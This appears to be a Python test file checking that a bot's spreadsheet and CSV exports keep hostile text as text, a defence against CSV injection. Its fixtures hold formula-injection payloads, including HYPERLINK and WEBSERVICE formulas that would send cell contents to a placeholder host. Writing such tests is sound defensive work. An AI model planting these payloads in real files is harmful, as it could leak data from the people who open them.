"""Every spreadsheet and CSV file the project writes keeps hostile text as text: a name, code
or report starting with = + - @ (tab, CR) is never a formula (OWASP "CSV injection")."""

from __future__ import annotations

import asyncio
import csv
import re
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.cli import main
from bot.spreadsheets import FORMULA_STARTS, csv_cell
from storage import acceptance
from storage.db import Database
from storage.rows import ts
from tests.conftest import SHANGHAI
from tests.projects_helpers import seed_project, seed_report

ROOT = Path(__file__).resolve().parents[1]
NOW = datetime(2026, 11, 28, 9, 0, tzinfo=SHANGHAI)
# Organization codes (no spaces allowed) and names as an attacker would file them.
HOSTILE_ORGS = [
    ('=HYPERLINK("http://x/"&A1)', '=HYPERLINK("http://x/?"&D2,"点此")'),
    ("+1", "+1+1"),
    ("-1+2", "-2+3 街道"),
    ("@SUM(1)", "@SUM(1) 社区"),
]
ORG_TEXT = [text for pair in HOSTILE_ORGS for text in pair]
PROJECT_NAME = "=1+1 项目"
REPORT_TEXT = ["\t=1+2", "\r=2+3", '=WEBSERVICE("http://x/"&A1)']
CITATION = '=HYPERLINK("http://x/?"&B3,"示范")'  # a 示范项目's citation, in the year's book


# How OOXML stores a control character in text (a CR is _x000D_): openpyxl leaves it so.
_OOXML_ESCAPE = re.compile("_x([0-9A-F]{4})_")


def assert_text_stays_text(path: Path, hostile: list[str]) -> None:
    """The one check of every export: read back, no cell is a formula, and each hostile
    text is there as text (unchanged in .xlsx, neutralised with a leading ' in CSV)."""
    found: set[str] = set()
    if path.suffix == ".xlsx":
        book = load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    where = f"{path.name} {sheet.title}!{cell.coordinate}"
                    assert cell.data_type != "f", f"{where} is a formula: {cell.value!r}"
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s", where
                        found.add(_OOXML_ESCAPE.sub(lambda m: chr(int(m[1], 16)), cell.value))
        book.close()
    else:
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for value in row:
                    assert not value.startswith(FORMULA_STARTS), f"{path.name}: {value!r}"
                    found.add(value)
        hostile = [csv_cell(text) for text in hostile]
        assert all(text.startswith("'") for text in hostile)
    missing = [text for text in hostile if text not in found]
    assert not missing, f"{path.name} lost or changed {missing}"


# Every export, its command and the hostile text it must carry.
EXPORTS = {
    "invites.xlsx": (["invites"], ORG_TEXT),
    "invites.csv": (["invites"], ORG_TEXT),
    # November's report in the month; every month's in the year's detailed sheets.
    "ledger-month.xlsx": (
        ["ledger", "--period", "2026-11"],
        [*ORG_TEXT, PROJECT_NAME, REPORT_TEXT[-1]],
    ),
    "ledger-year.xlsx": (
        ["ledger", "--year", "2026", "--detail"],
        [*ORG_TEXT, PROJECT_NAME, *REPORT_TEXT, CITATION],
    ),
}


@pytest.fixture
def hostile_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Organizations with hostile codes and names, each with a project whose reports carry
    hostile text; no secretaries, so every organization is in the invites too."""
    for var in ("TELEGRAM_BOT_TOKEN", "BOT_CONFIG", "BOT_API_BASE_URL"):
        monkeypatch.delenv(var, raising=False)
    db_path = tmp_path / "hostile.sqlite3"
    monkeypatch.setenv("BOT_DB_PATH", str(db_path))
    monkeypatch.setenv("BOT_USERNAME", "wuhua_shuji_bot")
    units = tmp_path / "units.csv"
    with units.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["编号", "名称", "上级编号", "类型"])
        writer.writerow(["WH", "五华区委组织部", "", "组织部"])
        writer.writerows([code, name, "WH", "党工委"] for code, name in HOSTILE_ORGS)
    assert main(["import-units", str(units)]) == 0

    async def seed() -> None:
        db = await Database.open(db_path)
        try:
            for code, _ in HOSTILE_ORGS:
                pid = await seed_project(db, code, None, NOW, name=PROJECT_NAME)
                for period, problems in zip(("2026-09", "2026-10", "2026-11"), REPORT_TEXT,
                                            strict=True):  # fmt: skip
                    await seed_report(db, pid, period, NOW, problems=problems)
            async with db.transaction() as conn:  # the last one a 示范项目
                await acceptance.choose_model(conn, pid, 2026, CITATION, 1, ts(NOW))
        finally:
            await db.close()

    asyncio.run(seed())
    return db_path


@pytest.mark.parametrize("name", list(EXPORTS))
def test_every_export_keeps_hostile_text_as_text(
    hostile_db: Path, tmp_path: Path, name: str
) -> None:
    command, hostile = EXPORTS[name]
    out = tmp_path / name
    assert main([*command, "--out", str(out)], clock=lambda: NOW) == 0
    assert_text_stays_text(out, hostile)


def test_csv_cells_are_neutralised_as_owasp_advises() -> None:
    assert [csv_cell(t) for t in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1")] == [
        "'=1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1"]  # fmt: skip
    assert [csv_cell(t) for t in ("WH01", "护国 =1", "", None, 5)] == ["WH01", "护国 =1", "", "",
                                                                       "5"]  # fmt: skip


# What writes a spreadsheet or CSV cell: only bot/spreadsheets.py may, so a new export
# cannot bypass it (and is then covered by EXPORTS' check once listed there).
WRITES_CELLS = re.compile(
    r"\bWorkbook\(|csv\.(writer|DictWriter)\b|\.write_(string|formula|url|row|column|"
    r"rich_string|array_formula)\(|\.to_(excel|csv)\(|\.append\(\s*headings"
)


def test_only_the_spreadsheet_module_writes_cells() -> None:
    offenders = [
        str(path.relative_to(ROOT))
        for package in ("bot", "handlers", "scheduler", "storage")
        for path in sorted((ROOT / package).rglob("*.py"))
        if path != ROOT / "bot" / "spreadsheets.py" and WRITES_CELLS.search(path.read_text())
    ]
    assert offenders == []
